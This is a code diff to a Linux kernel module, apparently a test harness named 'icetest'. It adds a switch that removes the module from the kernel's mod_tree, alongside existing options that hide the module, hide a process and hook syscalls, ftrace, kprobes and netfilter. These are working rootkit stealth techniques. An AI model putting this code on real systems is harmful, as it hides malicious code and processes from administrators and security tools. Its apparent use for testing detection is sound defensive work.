@@ -9,6 +9,7 @@
  *
  *	hide_list=1      off the kernel's list: /proc/modules, kallsyms
  *	hide_sysfs=1     off /sys/module
+ *	hide_tree=1      off the tree by which the kernel finds its code
  *	hide_pid=N       which process is hidden by
  *	hide_proc=1        from the names in /proc: its own iterate_shared
  *	hide_idr=1         from the table of ids: /proc, iterators, kill
@@ -31,17 +32,19 @@
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
 #include <linux/pid_namespace.h>
+#include <linux/rbtree_latch.h>
 #include <linux/sched.h>
 #include <linux/seq_file.h>
 #include <linux/version.h>
 
 static unsigned long lookup;
-static int hide_list, hide_sysfs, hide_pid, hide_proc, hide_idr;
+static int hide_list, hide_sysfs, hide_tree, hide_pid, hide_proc, hide_idr;
 static int hook_seq, hook_syscall = -1, hook_dispatcher, hook_start;
 static int hook_ftrace, hook_kprobe, hook_netfilter;
 module_param(lookup, ulong, 0);
 module_param(hide_list, int, 0);
 module_param(hide_sysfs, int, 0);
+module_param(hide_tree, int, 0);
 module_param(hide_pid, int, 0);
 module_param(hide_proc, int, 0);
 module_param(hide_idr, int, 0);
@@ -207,10 +210,10 @@ static int change_dispatcher(void)
 
 /* A jump whose distance is filled in. */
 asm(".text\n"
-	"icetest_stub:\n"
-	"	.byte 0xe9\n"
-	"	.long 0\n"
-	"	int3\n");
+    "icetest_stub:\n"
+    "	.byte 0xe9\n"
+    "	.long 0\n"
+    "	int3\n");
 extern u8 icetest_stub[];
 
 /* Over the five bytes that ftrace keeps for itself. */
@@ -269,6 +272,21 @@ static const struct nf_hook_ops netfilter_hook = {
 	.priority = NF_IP_PRI_FIRST,
 };
 
+static int leave_tree(void)
+{
+	struct latch_tree_root *root = find("mod_tree");
+
+	if (!root)
+		return -ENOENT;
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	for_class_mod_mem_type(type, core) if (THIS_MODULE->mem[type].size)
+		latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, root, NULL);
+#else
+	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, NULL);
+#endif
+	return 0;
+}
+
 static int __init icetest_init(void)
 {
 	int r = 0;
@@ -291,6 +309,8 @@ static int __init icetest_init(void)
 		r = register_kprobe(&kprobe_hook);
 	if (!r && hook_netfilter)
 		r = nf_register_net_hook(&init_net, &netfilter_hook);
+	if (!r && hide_tree)
+		r = leave_tree();
 	if (r)
 		return r;
 	if (hide_list)
